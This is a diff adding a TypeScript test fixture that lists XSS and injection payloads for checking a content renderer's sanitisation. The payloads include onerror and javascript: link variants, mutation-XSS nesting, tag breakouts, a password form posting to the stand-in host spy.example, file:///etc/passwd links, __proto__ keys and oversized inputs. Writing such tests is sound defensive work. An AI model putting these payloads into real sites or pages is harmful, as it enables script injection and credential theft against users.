@@ -1,0 +1,31 @@
+import { payloads } from "../../support/payloads.ts";
+
+/** What an editor's account in the wrong hands could write: in the body, around our own blocks, in titles. */
+export const attacks: readonly string[] = [
+  ...payloads,
+  "<svg/onload=alert(1)>",
+  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+  "<!--<img src='--><img src=x onerror=alert(1)>'>",
+  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+  "<template><script>alert(1)</script></template>",
+  "</script><script>alert(1)</script>",
+  "</title><script>alert(1)</script>",
+  "</main><form action=https://spy.example><input name=password></form>",
+  "[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](java\tscript:alert(1)) [x](&#106;avascript:alert(1))",
+  "[x](javascript&colon;alert(1)) [x](\u0001javascript:alert(1)) [x](data:text/html,<script>alert(1)</script>)",
+  "[x](//spy.example/a) [x](/\\spy.example) [x](\\/spy.example) [x](/\t/spy.example) [x](https:spy.example)",
+  "[x](https://user:word@spy.example/) [x](blob:https://ensemble.example/1) [x](file:///etc/passwd)",
+  '[x](/path"onmouseover="alert(1)) [x](#a"onclick="alert(1)) [x](?redirect=https://spy.example)',
+  "[x]\n\n[x]: javascript:alert(1) 'title'",
+  "## <img src=x onerror=alert(1)>\n\n### [x](javascript:alert(1))",
+  ":::hero\n# <script>alert(1)</script>\n\n[<img src=x onerror=alert(1)>](javascript:alert(1))\n:::",
+  ":::faq\n### <img src=x onerror=alert(1)>\n\n</details><script>alert(1)</script>\n:::",
+  ':::cards\n### "><script>alert(1)</script>\n:::\n:::constructor\ntext\n:::\n:::__proto__\ntext\n:::',
+  "::constructor\n::__proto__\n::tostring a b\n::plans <script>\n::plans __proto__\n::plans constructor",
+  '[[<script>alert(1)</script>]] [["><img src=x onerror=alert(1)>]] {{constructor}} {{__proto__}} {{<script>}}',
+  "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|---|\n| <img src=x onerror=alert(1)> | ![x](https://spy.example/x.png) |",
+  "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
+  `${"> ".repeat(400)}deep`,
+  `${"- ".repeat(400)}deep`,
+  "*".repeat(20_000),
+];
